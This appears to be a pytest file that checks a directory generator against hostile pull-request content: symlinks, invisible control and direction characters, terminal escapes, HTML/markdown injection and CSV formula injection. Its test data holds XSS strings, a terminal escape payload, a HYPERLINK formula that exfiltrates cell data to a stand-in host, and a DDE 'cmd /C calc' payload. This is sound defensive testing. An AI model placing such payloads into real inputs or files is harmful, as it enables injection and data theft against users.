"""Files from strangers' pull requests: symbolic links are refused where they lie and never followed, invisible
control characters are refused in text, and nothing a record holds reaches a terminal, a spreadsheet, the stale
report or a folder name as anything but text."""

from __future__ import annotations

import json
import os
import re
import subprocess

import pytest

from generator.build import BuildError, build_site

from conftest import REPO, SERVICE, run_cli

SECRET = "token-4f1d9c"
OUTSIDE = f"id: klub\nname: {SECRET}\n"


def problems_of(run) -> list[tuple[str, int, str]]:
    return [(p["path"], p["line"], p["code"]) for p in json.loads(run.out)["problems"]]


def outside_file(tmp_path, text=OUTSIDE):
    path = tmp_path / "elsewhere" / "private.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


# Symbolic links ----------------------------------------------------------------------------------------------------


@pytest.mark.site
def test_a_symlinked_service_file_is_refused_where_it_lies_and_nothing_is_read_through_it(catalogue, tmp_path):
    catalogue.service("klub")
    services = catalogue.root / "forening" / "services"
    (services / "hemmelig.yaml").symlink_to(outside_file(tmp_path))
    for args in ((), ("catalogue/forening/services/hemmelig.yaml",)):
        run = catalogue.validate("--format", "json", *args)
        assert run.code == 1
        assert problems_of(run) == [("catalogue/forening/services/hemmelig.yaml", 1, "symlink")]
        assert SECRET not in run.out
    text = catalogue.validate()
    assert "error[symlink]" in text.out and SECRET not in text.out
    with pytest.raises(BuildError):
        build_site(catalogue.root, tmp_path / "site")
    assert not (tmp_path / "site" / "tilbud" / "hemmelig").exists()


def test_symlinked_organisation_and_services_folders_are_refused(catalogue, tmp_path):
    elsewhere = tmp_path / "elsewhere" / "org"
    (elsewhere / "services").mkdir(parents=True)
    (elsewhere / "organisation.yaml").write_text("id: laant\nname: " + SECRET + "\ntype: association\n")
    (elsewhere / "services" / "klub.yaml").write_text(SERVICE.format(id="klub"))
    (catalogue.root / "laant").symlink_to(elsewhere)
    (catalogue.root / "anden").mkdir()
    (catalogue.root / "anden" / "organisation.yaml").write_text((catalogue.root / "forening" / "organisation.yaml")
                                                               .read_text().replace("forening", "anden"))
    (catalogue.root / "anden" / "services").symlink_to(elsewhere / "services")
    run = catalogue.validate("--format", "json")
    assert problems_of(run) == [("catalogue/anden/services", 1, "symlink"), ("catalogue/laant", 1, "symlink")]
    assert SECRET not in run.out


def test_a_symlink_loop_gives_a_located_error_never_a_traceback(catalogue):
    services = catalogue.root / "forening" / "services"
    services.mkdir(parents=True)
    (services / "a.yaml").symlink_to("b.yaml")
    (services / "b.yaml").symlink_to("a.yaml")
    (catalogue.root / "rund").symlink_to("rund")
    run = catalogue.validate("--format", "json")
    assert problems_of(run) == [("catalogue/forening/services/a.yaml", 1, "symlink"),
                                ("catalogue/forening/services/b.yaml", 1, "symlink"),
                                ("catalogue/rund", 1, "symlink")]
    run = catalogue.validate("catalogue/forening/services/a.yaml")
    assert run.code == 1 and "error[symlink]" in run.out and "Traceback" not in run.err
    fmt = run_cli("fmt", cwd=catalogue.base)
    assert fmt.code == 1 and "a.yaml" in fmt.err and "Traceback" not in fmt.err


def test_fmt_never_writes_through_a_symlink(catalogue, tmp_path):
    unformatted = "name: Klub\nid: klub\n"
    target = outside_file(tmp_path, unformatted)
    services = catalogue.root / "forening" / "services"
    services.mkdir(parents=True)
    (services / "klub.yaml").symlink_to(target)
    for args in ((), ("catalogue/forening/services/klub.yaml",), ("--check",)):
        run = run_cli("fmt", *args, cwd=catalogue.base)
        assert run.code == 1, args
        assert "klub.yaml" in run.err
    assert target.read_text(encoding="utf-8") == unformatted
    assert (services / "klub.yaml").is_symlink()


def git(cwd, *args):
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.org", *args], cwd=cwd, check=True,
                   capture_output=True)


def test_the_pull_request_check_reports_a_symlink_a_branch_adds(catalogue, tmp_path):
    git(catalogue.base, "init", "-q", "-b", "main")
    catalogue.service("klub")
    git(catalogue.base, "add", "-A")
    git(catalogue.base, "commit", "-qm", "start")
    git(catalogue.base, "checkout", "-qb", "forslag")
    os.symlink(outside_file(tmp_path), catalogue.root / "forening" / "services" / "ny.yaml")
    os.symlink("sløjfe.yaml", catalogue.root / "forening" / "services" / "sløjfe.yaml")
    git(catalogue.base, "add", "-A")
    git(catalogue.base, "commit", "-qm", "links")
    run = catalogue.validate("--changed", "main", "--format", "json")
    assert run.code == 1
    assert problems_of(run) == [("catalogue/forening/services/ny.yaml", 1, "symlink"),
                                ("catalogue/forening/services/sløjfe.yaml", 1, "symlink")]
    assert SECRET not in run.out


# Invisible characters ----------------------------------------------------------------------------------------------

HIDDEN = {
    "\u202e": "U+202E RIGHT-TO-LEFT OVERRIDE",
    "\x1b": "U+001B",
    "\u2066": "U+2066 LEFT-TO-RIGHT ISOLATE",
    "\r": "U+000D",
    "\x9b": "U+009B",
    "\ufeff": "U+FEFF ZERO WIDTH NO-BREAK SPACE",
}


@pytest.mark.parametrize("char", list(HIDDEN), ids=[f"U+{ord(c):04X}" for c in HIDDEN])
def test_a_control_or_direction_character_in_a_text_is_a_located_error(catalogue, char):
    escaped = json.dumps(f"Familie{char}klubben")  # YAML's double quotes read JSON's escapes
    text = SERVICE.format(id="klub").replace("name: Familieklubben", f"name: {escaped}")
    catalogue.service("klub", text)
    run = catalogue.validate("--format", "json")
    found = [(p["line"], p["column"], p["field"], p["code"]) for p in json.loads(run.out)["problems"]]
    assert found == [(2, 15, "name", "control-character")]  # the column of the escape for the 8th character
    message = json.loads(run.out)["problems"][0]["message"]
    assert HIDDEN[char] in message and "plads 8" in message


def test_a_direction_override_written_as_it_is_is_found_where_it_stands(catalogue):
    text = SERVICE.format(id="klub").replace("city: Aarhus C", "city: Aarhus \u202eC")
    catalogue.service("klub", text)
    run = catalogue.validate("--format", "json")
    found = [(p["line"], p["column"], p["field"], p["code"]) for p in json.loads(run.out)["problems"]]
    assert found == [(15, 18, "locations[0].city", "control-character")]


def test_line_breaks_and_tabs_in_a_description_stay_allowed(catalogue):
    text = SERVICE.format(id="klub") + 'description: "Første afsnit.\\n\\n- punkt\\tmed tabulator\\n"\n'
    catalogue.service("klub", text)
    run = catalogue.validate()
    assert run.code == 0, run.out


def test_no_escape_sequence_from_a_record_reaches_the_terminal(catalogue):
    catalogue.service("klub", SERVICE.format(id="klub").replace("status: active", 'status: "\\e[2J\\e]0;pwned\\a"'))
    catalogue.service("x", "id: x\n\x1b[31mnavn\u202e: y\n")
    for fmt in ("text", "json", "github"):
        run = catalogue.validate("--format", fmt)
        assert run.code == 1
        assert not any(c in run.out + run.err for c in ("\x1b", "\x07", "\u202e")), fmt
    assert "\\x1b[2J" in catalogue.validate().out


# The stale report --------------------------------------------------------------------------------------------------

HOSTILE_NAMES = ["[x](javascript:alert(document.domain))", "![x](https://tracker.example/p.png)",
                 "<img src=x onerror=alert(1)>", "<https://evil.example/>", "x | y"]


def published_steps(workflow: str, name_part: str) -> str:
    import yaml

    data = yaml.safe_load((REPO / ".github" / "workflows" / workflow).read_text(encoding="utf-8"))
    return next(s["run"] for s in data["jobs"]["build"]["steps"] if name_part in s.get("name", ""))


@pytest.mark.parametrize("workflow", ["publish.yml", "nightly.yml"])
def test_a_hostile_name_in_the_stale_report_stays_text_on_the_site_and_in_the_summary(catalogue, tmp_path, workflow):
    import markdown
    from markdown_it import MarkdownIt

    for i, name in enumerate(HOSTILE_NAMES):
        text = SERVICE.format(id=f"gammel-{i}").replace("Familieklubben", json.dumps(name))
        catalogue.service(f"gammel-{i}", text.replace("last_verified: 2026-10-01", "last_verified: 2020-06-01"))
    (catalogue.base / ".venv").symlink_to(REPO / ".venv")
    summary = tmp_path / "summary.md"
    done = subprocess.run(["bash", "-e", "-c", published_steps(workflow, "stale")], cwd=catalogue.base,
                          env={**os.environ, "GITHUB_STEP_SUMMARY": str(summary)}, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    reports = catalogue.base / "site" / "reports"
    page = (reports / "stale.html").read_text(encoding="utf-8")
    as_markdown = (reports / "stale.md").read_text(encoding="utf-8")
    rendered = [page, markdown.markdown(as_markdown, extensions=["tables"]),
                MarkdownIt("commonmark").enable("table").render(as_markdown),
                MarkdownIt("commonmark").enable("table").render(summary.read_text())]
    for html in rendered:
        assert "<a " not in html and "<img" not in html and "javascript:" not in html.replace("javascript:alert", "")
        assert not re.search(r"<(?!/?(?:p|h1|table|thead|tbody|tr|th|td|code|html|head|body|meta|title|!doctype)\b)",
                             html, re.I), html
    for name in HOSTILE_NAMES:
        assert html_text(page).count(name) == 1
    assert json.loads((reports / "stale.json").read_text())["records"][0]["name"] in HOSTILE_NAMES


def html_text(page: str) -> str:
    from html.parser import HTMLParser

    parts = []
    parser = HTMLParser()
    parser.handle_data = parts.append
    parser.feed(page)
    return "".join(parts)


# Spreadsheets ------------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.invalid/?d="&A2,"x")'


@pytest.mark.site
def test_a_formula_shaped_text_is_inert_in_the_csv_and_exact_in_the_lossless_formats(catalogue, tmp_path):
    import csv

    text = SERVICE.format(id="klub").replace("name: Familieklubben", f"name: {json.dumps(FORMULA)}")
    text = text.replace("status: active", 'status: active\nphone: "+45 70 10 20 30"\n'
                                          'cost_description: "@SUM(1+1)*cmd|\' /C calc\'!A0"')
    catalogue.service("klub", text.replace("cost: free", "cost: fee"))
    run = run_cli("export", "--out", str(tmp_path / "data"), "--today", "2026-11-23", cwd=catalogue.base)
    assert run.code == 0, run.err
    with (tmp_path / "data" / "services.csv").open(encoding="utf-8", newline="") as f:
        (row,) = csv.DictReader(f)
    assert row["name"] == "'" + FORMULA
    assert row["cost_description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["phone"] == "+45 70 10 20 30" and row["id"] == "klub"
    build_site(catalogue.root, tmp_path / "site")
    geojson = json.loads((tmp_path / "site" / "data" / "services.geojson").read_text(encoding="utf-8"))
    assert {f["properties"]["name"] for f in geojson["features"]} == {FORMULA}
    hsds = "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "site" / "data" / "hsds").rglob("*.json"))
    assert json.dumps(FORMULA, ensure_ascii=False) in hsds and json.dumps("'" + FORMULA) not in hsds
